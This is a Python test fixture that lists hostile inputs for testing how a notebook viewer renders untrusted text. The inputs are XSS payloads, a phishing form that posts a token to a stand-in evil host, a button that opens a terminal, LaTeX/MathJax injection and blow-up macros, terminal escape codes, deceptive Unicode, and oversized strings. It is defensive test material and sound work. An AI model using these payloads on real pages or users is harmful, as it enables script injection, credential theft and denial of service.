"""Texts that a model, a dataset or a server could send to take over the reader's notebook, terminal or eyes.

Each script sets `window.__xss`; each outside address is a name that no test machine resolves. Shared by the view's
tests and the browser's.
"""

from __future__ import annotations

__all__ = ["CORPUS"]

_SET = "window.__xss=1"

_HTML = [
    f"<script>{_SET}</script>",
    f"<SCRIPT SRC=https://evil.invalid/x.js>{_SET}</SCRIPT>",
    f'<img src=x onerror="{_SET}">',
    f"<svg onload={_SET}><animate onbegin={_SET} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_SET}'><text y=20>click</text></a></svg>",
    f"<iframe srcdoc='<script>parent.__xss=1</script>'></iframe><iframe src='javascript:parent.{_SET}'></iframe>",
    f'<a href="javascript:{_SET}" id=qwq>click</a>',
    "<a href='data:text/html,<script>opener.__xss=1</script>' target=_blank>click</a>",
    f'<details open ontoggle="{_SET}"><summary>x</summary></details>',
    f"<body onload={_SET}><video><source onerror={_SET}></video>",
    f"<input autofocus onfocus={_SET}><select autofocus onfocus={_SET}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_SET}>",
    f"<object data='javascript:{_SET}'></object><embed src='https://evil.invalid/e.swf'>",
    "<link rel=stylesheet href=https://evil.invalid/x.css><style>@import url(https://evil.invalid/y.css)</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'><base href=https://evil.invalid/>",
    '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">run</button>',
    "<form action=https://evil.invalid/><input name=token><button>Log in</button></form>",
    '<div style="position:fixed;inset:0;background:url(https://evil.invalid/b.png);z-index:99999">overlay</div>',
    "<img src=https://evil.invalid/pixel.png><audio src=https://evil.invalid/a.ogg autoplay>",
    f"</pre></details></details></div></td></table><script>{_SET}</script>",
    f"</summary></code></span><img src=x onerror={_SET}>",
    f"--><script>{_SET}</script><!--",
    f"]]><script>{_SET}</script><![CDATA[",
    f"&lt;script&gt;{_SET}&lt;/script&gt; &#60;img src=x onerror={_SET}&#62; &amp;lt;b&amp;gt;",
    f"\" onmouseover=\"{_SET}\" x=\"' onfocus='{_SET}' autofocus '",
    f"`<img src=x onerror={_SET}>` ```html\n<script>{_SET}</script>\n```",
    f"[click](javascript:{_SET}) ![x](https://evil.invalid/md.png) <https://evil.invalid/>",
    f"{{{{constructor.constructor('{_SET}')()}}}} ${{alert(1)}} {{% raw %}} #{{7*7}} <%= 7*7 %>",
    f"<template><script>{_SET}</script></template><noscript><p title='</noscript><img src onerror={_SET}>'>",
]

_MATHS = [
    rf"$\href{{javascript:{_SET}}}{{x}}$ and \(\href{{javascript:{_SET}}}{{y}}\)",
    r"\[\style{position:fixed;inset:0;background:url(https://evil.invalid/s.png)}{x}\] $\class{jp-Button}{x}$",
    r"$\require{html}\cssId{jp-main-dock-panel}{x}$ $\data{commandlinker-command=terminal:create-new}{x}$",
    rf"$\unicode[url(https://evil.invalid/f.woff)]{{x41}}$ $$\html{{<img src=x onerror={_SET}>}}$$",
    r"$\def\a{\a\a}\a$ \(\let\x=\frac \newcommand{\y}{\y\y}\y\) $\gdef\frac{broken}$",
    rf"\begin{{align}}\href{{javascript:{_SET}}}{{x}}\end{{align}} \begin{{array}}{{*{{999999}}{{c}}}}x\end{{array}}",
    r"$\rule{9999em}{9999em}$ $\rlap{\raise900em{over}}$ $x\\[-900em]y$ $\hspace{-900em}z$ \(\kern-99em\)",
    rf"\ref{{x}}\eqref{{y}} \\(\\href{{javascript:{_SET}}}{{x}}\\) \$\href{{javascript:{_SET}}}{{z}}\$ $$$$$",
    rf"\boxed{{\href{{javascript:{_SET}}}{{x}}}} \boxed{{<img src=x onerror={_SET}>}} \boxed{{1",
    rf"$x<img src=x onerror={_SET}>y$ \(</span><script>{_SET}</script>\) $\text{{</span><script>{_SET}</script>}}$",
    rf"$\text{{\(\href{{javascript:{_SET}}}{{x}}\)}}$ $\mmlToken{{mi}}[href='javascript:{_SET}']{{x}}$",
    "$" * 3_000 + "{" * 3_000,
    r"$\bbox[url(https://evil.invalid/bb.png)]{x}$ $\texttip{x}{y}$ $\toggle{a}{b}\endtoggle$ $\color{red}{x}$",
    "$" + "{" * 10_000 + "}" * 10_000 + "$",
    r"$" + r"\frac{1}{" * 500 + "2" + "}" * 500 + "$",
]

_CHARACTERS = [
    "\x1b[2J\x1b[31mred\x1b]0;title\x07 \x1b]8;;https://evil.invalid/\x07link\x1b]8;;\x07 \x9b31m\x90q",
    "null\x00byte \x08\x08\x08 backspaced \r overwritten \x7f \x0b\x0c",
    "abc\u202edcba\u202c \u2066isolate\u2069 \u200fmark\u061c",
    "zero\u200bwidth\u200d\u2060joined\ufeff \u00adsoft \u2028 line \u2029 paragraph",
    "tags \U000e0041\U000e0042\U000e007f \U000e0101 hidden \u3164\u115f",
    "lone \ud800 high, \udfff low, pair \ud83d\ude00 halves \udead\ud801",
    "e" + "\u0301" * 2_000 + " zalgo",
]

_SIZE = [
    "<div>" * 10_000,
    "{" * 10_000 + "}" * 10_000,
    "x" * 1_000_000,
    "<b>" * 2_000 + "\n" * 2_000 + "\\(" * 2_000,
    "\\begin{align}" * 1_000,
]

CORPUS: list[str] = [*_HTML, *_MATHS, *_CHARACTERS, *_SIZE]
